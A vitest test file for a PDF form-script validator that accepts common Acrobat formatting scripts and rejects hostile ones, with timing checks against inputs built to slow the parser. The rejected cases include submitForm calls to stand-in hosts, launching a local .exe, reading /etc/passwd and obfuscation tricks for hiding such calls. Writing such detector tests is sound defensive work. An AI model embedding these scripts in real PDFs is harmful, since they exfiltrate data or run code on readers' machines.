import { expect, test } from 'vitest';
import { formScript } from '../../../../main/precheck/pdf/form-script.ts';

const SUMS = `
  // Adds up; "amount" is a field's name.
  var names = new Array("amount", 'tax'), total = 0;
  function valueOfField(name) { return Number(this.getField(name).value) / 1; }
  for (var i = 0; i < names.length; i++) { total += valueOfField(names.shift()); }
  if (total > 100) app.alert("Please call us: submitForm is not here", 3);
  /* As a bank writes it. */ event.value = util.printf("%,.2f", total);`;

test.each([
  ['AFNumber_Format(2, 2, 0, 0, "", false);', 'known'],
  ['AFSimple_Calculate("SUM", new Array ("N.REM1", "N.REM2"));', 'known'],
  ['AFDate_FormatEx("yyyy-mm-dd")', 'known'],
  [SUMS, 'calm'],
  ['this.getField("amount").fillColor = color.white;', 'calm'],
  ['app.launchURL("https://tax.example/help", true);', 'calm'],
  ['event.target.hidden = (this.getField("N.1").value=="" && true);', 'calm'],
] as const)('stays in its form: %.50s', (text, does) => {
  expect(formScript(text, true)).toBe(does);
});

test('a script of the whole document may not ask anything of the reader', () => {
  expect(formScript('this.getField("F.1").setFocus();', false)).toBe('calm');
  expect(formScript('app.alert("hello");', false)).toBeNull();
});

test.each([
  'app.launchURL("https://tax.example/" + this.getField("amount").value); eval("1")',
  'app.launchURL(address);',
  'app.launchURL("file:///c:/a.exe");',
  'this.submitForm("http://a.example");',
  'var f = this.submitForm; f("http://a.example");',
  'this["sub" + "mitForm"]("http://a.example");',
  'var a = app; a.alert("1");',
  '[].sort.constructor("1")();',
  'new Function("1")();',
  'ev\\u0061l("1");',
  'if (1) /"/; this.submitForm("a"); //"',
  'return /"/; this.submitForm("http://a.example"); "/"',
  '<!-- /*\nthis.submitForm("a");\n<!-- */',
  '// \xe2\x80\xa8this.submitForm("a");',
  '// \u2028this.submitForm("a");',
  'app.setTimeOut("1", 1);',
  'util.readFileIntoStream("/etc/passwd");',
  'SOAP.request({});',
  'newDoc();',
  'this.exportDataObject({ cName: "a", nLaunch: 2 });',
  'with (this) { mailDoc(); }',
  'x'.repeat(200_001),
])('no script of a form: %.60s', (text) => {
  expect(formScript(text, true)).toBeNull();
});

test.each([
  '/*',
  '/*\n',
  '"a',
  "'\\",
  '/ ',
  'a.',
  '(',
  'AF(',
  '/**',
  ' ',
])('what is made to take long ends at once: %j', (piece) => {
  const began = performance.now();
  formScript(piece.repeat(99_999 / piece.length), true);
  formScript(`AFNumber_Format(${piece.repeat(90_000 / piece.length)}!`, true);
  expect(performance.now() - began).toBeLessThan(1000);
});
